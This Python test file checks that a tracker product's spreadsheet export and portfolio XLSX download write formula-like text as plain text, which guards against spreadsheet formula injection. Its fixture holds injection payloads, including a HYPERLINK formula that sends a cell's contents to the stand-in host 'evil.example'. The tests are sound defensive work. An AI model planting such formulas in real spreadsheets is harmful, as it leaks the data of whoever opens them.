"""Issue 16, every spreadsheet the product writes writes text as text: a cell starting with =,
+, -, @, tab or CR is never a formula (the workbook export and the dashboard's portfolio
download)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.commands.conftest import Tracker
from tests.workbook.builders import VALID, write_csv_folder
from tracker.analysis.portfolio import portfolio_summary
from tracker.analysis.run import analyse
from tracker.dashboard.portfolio.xlsx_export import portfolio_xlsx
from tracker.workbook.validate import validated_workbook

FORMULAS = {
    "Northdale Council": '=HYPERLINK("http://evil.example/?leak="&A1,"Northdale")',
    "Hill School": "+1+1",
    "Listening training": "-2+3",
    "Austerity": "@SUM(1,1)",
}


def _hostile_workbook(folder: Path) -> Path:
    tables = dict(VALID)
    for name, text in tables.items():
        for old, new in FORMULAS.items():
            text = text.replace(old, f'"{new.replace(chr(34), chr(34) * 2)}"')
        tables[name] = text
    # a tab and a carriage return at the start of free text
    tables["decisions"] = tables["decisions"].replace("£40k a year", '"\t=1+1"')
    return write_csv_folder(folder, tables)


def _formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet stored as a formula (`<f>` in the sheet XML)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                if b"<f>" in xml or b"<f " in xml:
                    found.append(name)
    book = openpyxl.load_workbook(io.BytesIO(data))
    found += [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    return found


def _texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def test_portfolio_download_writes_formula_like_names_as_text(tmp_path: Path) -> None:
    dataset = validated_workbook(_hostile_workbook(tmp_path / "wb"))
    data = portfolio_xlsx(portfolio_summary(dataset, analyse(dataset)))
    assert _formula_cells(data) == []
    assert FORMULAS["Northdale Council"] in _texts(data)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_export_writes_formula_like_text_as_text(tracker: Tracker, tmp_path: Path) -> None:
    assert tracker("import", str(_hostile_workbook(tmp_path / "wb"))).exit_code == 0
    target = tmp_path / "out.xlsx"
    assert tracker("export", str(target), "--format", "xlsx").exit_code == 0
    data = target.read_bytes()
    assert _formula_cells(data) == []
    texts = _texts(data)
    assert set(FORMULAS.values()) <= texts and "=1+1" in {t.strip() for t in texts}
    # and what was exported reads back the same
    assert tracker("import", str(target), "--dry-run").stdout.startswith("Dry run")
